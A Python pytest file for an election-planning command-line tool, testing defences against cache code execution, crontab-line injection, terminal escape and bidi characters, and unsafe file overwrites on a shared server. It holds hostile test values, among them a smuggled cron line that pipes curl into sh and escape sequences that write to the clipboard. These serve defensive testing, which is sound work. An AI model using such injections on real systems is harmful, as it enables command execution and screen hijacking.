"""On a shared server and with plans written by others: nobody runs code as someone else (the plan cache, a
crontab line), writes to someone else's screen, or overwrites what is not theirs. The sharing recipe runs as
two real local users (created when the tests run as root, as CI does)."""

import ast
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from datetime import datetime, timezone
from pathlib import Path

import pytest

import pilkada_cli
from conftest import POLDA, REGIONS_PLAN, write_plan
from pilkada_cli.plan import cache as plancache
from pilkada_cli.plan import load_plan
from test_summary import free_port

SOURCE = Path(pilkada_cli.__file__).parent


# -- the plan cache cannot run code


def test_no_pickle_anywhere_in_the_package():
    for path in SOURCE.rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        names = {alias.name for node in ast.walk(tree) if isinstance(node, (ast.Import, ast.ImportFrom))
                 for alias in node.names} | {node.module for node in ast.walk(tree)
                                             if isinstance(node, ast.ImportFrom) and node.module}
        assert not names & {"pickle", "cPickle", "marshal", "shelve", "dill"}, path


def test_the_cache_is_plain_json_in_the_users_cache_dir(plan_dir):
    load_plan(plan_dir)
    cache = plancache.cache_file(plan_dir, False, os.environ)
    assert cache.is_relative_to(Path(os.environ["PILKADA_CACHE_DIR"]))
    data = json.loads(cache.read_text(encoding="utf-8"))
    assert data["plan"]["$r"] == "Plan" and "Rencana Uji" in data["plan"]["v"]
    assert cache.stat().st_mode & 0o077 == 0


def test_a_symlinked_cache_is_never_followed(plan_dir, tmp_path):
    load_plan(plan_dir)
    cache = plancache.cache_file(plan_dir, False, os.environ)
    real = tmp_path / "elsewhere.json"
    shutil.copy(cache, real)
    real.chmod(0o600)
    cache.unlink()
    cache.symlink_to(real)
    key = plancache.cache_key(plan_dir, False, os.environ, [plan_dir / "pilkada.yaml", *sorted(
        (plan_dir / "checklists").rglob("*.yaml"))])
    assert plancache.read(cache, key) is None
    assert load_plan(plan_dir).name == "Rencana Uji"  # rebuilt from the YAML instead


def test_a_same_size_edit_with_the_old_mtime_restored_is_seen(plan_dir):
    load_plan(plan_dir)
    polda = plan_dir / "checklists" / "polda.yaml"
    before = polda.stat()
    edited = POLDA.replace("title: Patroli", "title: Patrolx")  # the same size
    assert len(edited) == len(POLDA)
    with open(polda, "r+", encoding="utf-8") as handle:  # in place: the same inode
        handle.write(edited)
    os.utime(polda, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert polda.stat().st_size == before.st_size and polda.stat().st_mtime_ns == before.st_mtime_ns
    assert next(i for i in load_plan(plan_dir).items if i.id == "patroli").title == "Patrolx"


# -- no crontab line but the one asked for

def test_a_plan_name_cannot_add_a_crontab_line(run, isolated):
    from conftest import PLAN, write_plan

    root = write_plan(isolated / "jahat", PLAN.replace("name: Rencana Uji",
                                                       'name: "Rencana\\n* * * * * root curl x | sh\\n#"'))
    result = run("cron", "--plan", str(root))
    assert result.exit_code == 2 and result.stdout == ""  # a newline in plan text is a plan error (issue 21)
    assert "pilkada.yaml:1" in result.stderr and "karakter kendali" in result.stderr


def test_a_plan_folder_with_a_newline_gets_no_cron_line(run, isolated):
    from conftest import write_plan

    root = write_plan(isolated / "a\n* * * * * sh")
    result = run("cron", "--plan", str(root))
    assert result.exit_code == 2 and "karakter kendali" in result.stderr and result.stdout == ""


def test_a_percent_sign_in_the_cron_line_is_escaped(run, isolated):
    """cron reads an unescaped % as a newline, and gives what follows to the job's standard input: the plan's
    path would be cut there, and the job run on the wrong plan or none."""
    from conftest import write_plan

    root = write_plan(isolated / "rencana 100%")
    line = run("cron", "--plan", str(root)).stdout.splitlines()[-1]
    assert "rencana 100\\%" in line and re.search(r"(?<!\\)%", line) is None, line


def test_a_mail_address_with_a_newline_gets_no_cron_line(run, plan_dir):
    result = run("cron", "--plan", str(plan_dir), "--mail-to", "a@b.example\n* * * * * sh")
    assert result.exit_code == 2 and result.stdout == ""


# -- nothing written to someone else's screen

HOSTILE = "mallory\x1b[2K\x1b[1Gadmin\x07\x9b31m\u202egnp.exe\x1b]52;c;ZXZpbA==\x07"


def test_control_and_bidi_characters_are_shown_not_obeyed(run, isolated):
    from conftest import PLAN, write_plan

    files = {"polda.yaml": "stakeholder: polda\nitems:\n  - id: jahat\n    title: \"" +
             HOSTILE.encode("unicode_escape").decode("ascii").replace("\\x", "\\x") + "\"\n    phase: persiapan\n"
             "    due: H-100\n    owner: \"Ka\\e]0;judul\\a\"\n"}
    root = write_plan(isolated / "jahat", PLAN.replace("name: Rencana Uji", 'name: "Uji\\e[2J"'), files)
    refused = run("check", "--plan", str(root))  # control characters in plan text are plan errors (issue 21)
    assert refused.exit_code == 2 and refused.stdout.count("karakter kendali") == 3
    # what a plan may still hold (bidirectional marks), and the journal's notes and names, are shown escaped
    files["polda.yaml"] = files["polda.yaml"].replace(files["polda.yaml"].split('title: "')[1].split('"')[0],
                                                      "mallory\\u202egnp.exe").replace("\\e]0;judul\\a", "")
    root = write_plan(isolated / "jahat", PLAN.replace("name: Rencana Uji", 'name: "Uji\\u202e"'), files)
    assert run("check", "--plan", str(root)).exit_code == 0
    p = str(root)
    # a control character never enters a journal from the command line (spec section 13: as an import checks)
    for option in ("--by", "--note"):
        refused = run("tick", "polda/jahat", "--plan", p, option, HOSTILE, "--on", "2024-08-01")
        assert refused.exit_code == 2 and "\x1b" not in refused.output, refused.output
    assert json.loads(run("log", "--json", "--plan", p).stdout) == []
    # ... but one from an older journal, or written by hand, is shown, not obeyed
    from pilkada_cli.model import NewEvent
    from pilkada_cli.plan import load_plan
    from pilkada_cli.store import open_plan_store

    open_plan_store(load_plan(root), {}).append(
        [NewEvent("polda/jahat", None, "done", None, HOSTILE, HOSTILE, HOSTILE)],
        datetime(2024, 8, 1, tzinfo=timezone.utc))
    outputs = [run(*args, "--plan", p, "--on", "2024-08-02").stdout for args in (
        ["status"], ["list"], ["log"], ["summary", "--dry-run"], ["summary", "--dry-run", "--format", "markdown"],
        ["tick", "polda/jahat", "--undo", "--note", "\u202egnp.exe"])]
    outputs.append(run("tick", HOSTILE, "--plan", p).stderr)
    for out in outputs:
        assert not any(ch in out for ch in "\x1b\x07\x9b\u202e"), repr(out[:300])
    assert any("\\x1b" in out for out in outputs) and any("\\u202e" in out for out in outputs)
    # JSON keeps the exact text
    log = json.loads(run("log", "--json", "--plan", p).stdout)
    assert log[0]["actor"] == HOSTILE and log[0]["note"] == HOSTILE


def test_undecodable_bytes_on_the_command_line_are_recorded_not_a_traceback(plan_dir, isolated):
    env = dict(os.environ, PILKADA_USER="bud\udcffi")
    result = subprocess.run([sys.executable, "-m", "pilkada_cli", "tick", "apel", "--plan", str(plan_dir),
                             "--note", "catatan \udcfe", "--on", "2024-08-01"], capture_output=True, cwd=isolated,
                            env={k: v.encode("utf-8", "surrogateescape") for k, v in env.items()})
    assert result.returncode == 0, result.stderr
    log = subprocess.run([sys.executable, "-m", "pilkada_cli", "log", "--json", "--plan", str(plan_dir)],
                         capture_output=True, cwd=isolated)
    entry = json.loads(log.stdout)[0]
    assert entry["actor"] == "bud\ufffdi" and entry["note"] == "catatan \ufffd"


# -- the README's shared-server recipe, as two real local users

GROUP, USERS = "pilkadauji", ("pilkadauji1", "pilkadauji2")


@pytest.fixture(scope="module")
def two_users():
    """Two local users in one group (created once; tests need root to create and become them)."""
    if os.geteuid() != 0:
        pytest.skip("needs root to create and become two local users (CI runs as root)")
    import grp
    import pwd

    if subprocess.run(["getent", "group", GROUP], capture_output=True).returncode != 0:
        subprocess.run(["groupadd", GROUP], check=True)
    users = []
    for name in USERS:
        if subprocess.run(["getent", "passwd", name], capture_output=True).returncode != 0:
            subprocess.run(["useradd", "--no-create-home", "--gid", GROUP, name], check=True)
        entry = pwd.getpwnam(name)
        users.append((name, entry.pw_uid, grp.getgrnam(GROUP).gr_gid))
    return users


def warm_up(tmp_path):
    """Run every command once in this process, so a child that became another user (who may not read this
    interpreter's files under /root) has every module it needs already loaded."""
    from typer.testing import CliRunner

    from conftest import write_plan
    from pilkada_cli.cli import GLOBAL, app

    root = write_plan(tmp_path / "pemanasan")
    runner = CliRunner()
    for args in (["tick", "apel", "--on", "2024-08-01"], ["status"], ["list"], ["log"], ["status", "--json"],
                 ["summary", "--on", "2024-08-02", "--output", str(tmp_path / "r.txt")], ["check"]):
        GLOBAL.plan = GLOBAL.on = GLOBAL.lang = None
        runner.invoke(app, [*args, "--plan", str(root)])
    import rich.console  # noqa: F401


def as_user(user, args, cwd, home, umask=0o002):
    """Run `pilkada ARGS` as another local user in a forked child: exit code, stdout, stderr."""
    name, uid, gid = user
    out_r, out_w = os.pipe()
    err_r, err_w = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: become the user, then run the command line in this process
        code = 70
        try:
            os.dup2(out_w, 1)
            os.dup2(err_w, 2)
            os.setgroups([gid])
            os.setgid(gid)
            os.setuid(uid)
            os.umask(umask)
            os.chdir(cwd)
            for key in [k for k in os.environ if k.startswith("PILKADA_")]:
                del os.environ[key]
            os.environ.update(HOME=str(home), USER=name, LOGNAME=name, COLUMNS="200",
                              XDG_CACHE_HOME=str(home / ".cache"), XDG_DATA_HOME=str(home / ".local/share"))
            from pilkada_cli.cli import GLOBAL, app

            GLOBAL.plan = GLOBAL.on = GLOBAL.lang = None
            sys.stdout = os.fdopen(1, "w", encoding="utf-8", closefd=False)
            sys.stderr = os.fdopen(2, "w", encoding="utf-8", closefd=False)
            try:
                app(args=list(args), prog_name="pilkada")
                code = 0
            except SystemExit as exc:
                code = exc.code if isinstance(exc.code, int) else 1
            sys.stdout.flush()
            sys.stderr.flush()
        except BaseException as exc:  # noqa: BLE001 - report anything to the parent
            os.write(2, repr(exc).encode())
        finally:
            os._exit(code)
    os.close(out_w)
    os.close(err_w)
    with os.fdopen(out_r, encoding="utf-8") as out, os.fdopen(err_r, encoding="utf-8") as err:
        stdout, stderr = out.read(), err.read()
    _, status = os.waitpid(pid, 0)
    return os.waitstatus_to_exitcode(status), stdout, stderr


def test_the_shared_server_recipe_works_for_two_users(two_users, tmp_path):
    import stat

    warm_up(tmp_path)
    base = Path(tempfile.mkdtemp(prefix="pilkada-bersama-"))
    try:
        base.chmod(0o755)
        homes = []
        for name, uid, gid in two_users:
            home = base / f"home-{name}"
            home.mkdir()
            os.chown(home, uid, gid)
            homes.append(home)
        from conftest import write_plan

        plan = write_plan(base / "rencana-ntt")
        # The README's recipe, as written there.
        subprocess.run(["sh", "-c", f"mkdir -p rencana-ntt/.pilkada && chgrp -R {GROUP} rencana-ntt/.pilkada && "
                        "chmod -R g+rwXs rencana-ntt/.pilkada && chmod -R o+rX rencana-ntt"], cwd=base, check=True)
        first, second = two_users
        code, out, err = as_user(first, ["tick", "apel", "--on", "2024-08-01", "--note", "pertama"], plan, homes[0])
        assert code == 0, err
        journal = plan / ".pilkada" / "journal.sqlite3"
        info = journal.stat()
        assert stat.S_IMODE(info.st_mode) == 0o664 and info.st_gid == first[2]
        code, out, err = as_user(second, ["tick", "patroli", "--on", "2024-08-01"], plan, homes[1])
        assert code == 0, err
        code, out, err = as_user(first, ["log", "--json"], plan, homes[0])
        assert [e["actor"] for e in json.loads(out)] == [first[0], second[0]]
        # each user's plan cache is their own, outside the shared folder
        assert not list((plan / ".pilkada").glob("*cache*"))
        assert list((homes[0] / ".cache" / "pilkada" / "plans").glob("*.json"))
        assert list((homes[1] / ".cache" / "pilkada" / "plans").glob("*.json"))
        # --output: the umask's mode and the folder's group; the other coordinator can replace it
        target = plan / ".pilkada" / "ringkasan.txt"
        code, _, err = as_user(first, ["summary", "--on", "2024-08-02", "--output", str(target)], plan, homes[0])
        assert code == 0, err
        assert stat.S_IMODE(target.stat().st_mode) == 0o664 and target.stat().st_gid == first[2]
        code, _, err = as_user(second, ["summary", "--on", "2024-08-03", "--output", str(target)], plan, homes[1])
        assert code == 0, err
        assert stat.S_IMODE(target.stat().st_mode) == 0o664 and "3 Agustus 2024" in target.read_text()
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_output_into_a_fifo_and_never_over_a_folder_or_link(run, plan_dir, tmp_path):
    fifo = tmp_path / "pipa"
    os.mkfifo(fifo)
    received = {}

    def reader():
        with open(fifo, encoding="utf-8") as handle:
            received["text"] = handle.read()

    import threading

    thread = threading.Thread(target=reader)
    thread.start()
    result = run("summary", "--dry-run", "--plan", str(plan_dir), "--on", "2024-08-02", "--output", str(fifo))
    thread.join(10)
    assert result.exit_code == 0 and fifo.is_fifo() and received["text"] == result.stdout
    folder = tmp_path / "folder"
    folder.mkdir()
    link = tmp_path / "tautan"
    link.symlink_to(tmp_path / "target.txt")
    for target in (folder, link):
        result = run("summary", "--dry-run", "--plan", str(plan_dir), "--on", "2024-08-02", "--output", str(target))
        assert result.exit_code == 2 and "bukan berkas biasa" in result.stderr
    assert folder.is_dir() and link.is_symlink() and not (tmp_path / "target.txt").exists()


def test_an_existing_output_keeps_its_mode(run, plan_dir, tmp_path):
    target = tmp_path / "ringkasan.txt"
    target.write_text("lama")
    target.chmod(0o664)
    assert run("summary", "--dry-run", "--plan", str(plan_dir), "--on", "2024-08-02",
               "--output", str(target)).exit_code == 0
    assert target.stat().st_mode & 0o777 == 0o664 and "Rencana Uji" in target.read_text()


# -- control characters in plan text: named by check, never shown or sent


CONTROLS = """\
stakeholder: kpu
phase: persiapan
items:
  - id: baris
    title: "Pembentukan PPK\\r\\ndan PPS"
    due: H-100
  - id: layar
    title: Sortir
    owner: "Sekretariat\\x1b[31m"
    tags: ["logistik\\x07"]
    due: H-90
  - id: catatan
    title: Catatan panjang
    notes: |
      Baris pertama
      baris kedua\twith a tab
  - id: catatan-rusak
    title: Catatan rusak
    notes: "awal\\x1b]52;c;aGVsbG8=\\x07akhir"
"""


def test_check_names_every_control_character_with_file_and_line(run, isolated):
    plan = REGIONS_PLAN.format(plan_id="kendali").replace("name: Rencana Wilayah", 'name: "Rencana\\r\\nWilayah"')
    root = write_plan(isolated / "kendali", plan, {"kpu.yaml": CONTROLS})
    checked = run("check", "--plan", str(root))
    assert checked.exit_code == 2
    lines = [line for line in checked.stdout.splitlines() if "karakter kendali" in line]
    places = [line.split(": ", 1)[0].removeprefix("kendali/") for line in lines]
    assert places == ["pilkada.yaml:2", "checklists/kpu.yaml:5", "checklists/kpu.yaml:9", "checklists/kpu.yaml:10",
                      "checklists/kpu.yaml:19"], checked.stdout  # the note of line 14 may span lines
    assert "(\\n, \\r)" in lines[0] and "(\\x1b)" in lines[2] and "(\\x07, \\x1b)" in lines[4]


@pytest.mark.parametrize("command", [["export", "--format", "ics"], ["export", "--excel"], ["report", "--html", "b.html"],
                                     ["summary", "--mail-to", "ops@polda.example"], ["status"], ["timeline"]])
def test_no_export_page_or_mail_crashes_on_them(run, isolated, command):
    plan = REGIONS_PLAN.format(plan_id="kendali").replace("name: Rencana Wilayah", 'name: "Rencana\\r\\nWilayah"')
    root = write_plan(isolated / "kendali", plan, {"kpu.yaml": CONTROLS})
    result = run(*command, "--plan", str(root), env={"PILKADA_SMTP_HOST": "127.0.0.1",
                                                     "PILKADA_SMTP_PORT": str(free_port())})
    assert result.exit_code == 2 and isinstance(result.exception, SystemExit), result.output
    assert "pilkada.yaml:2" in result.stderr and "kpu.yaml:5" in result.stderr
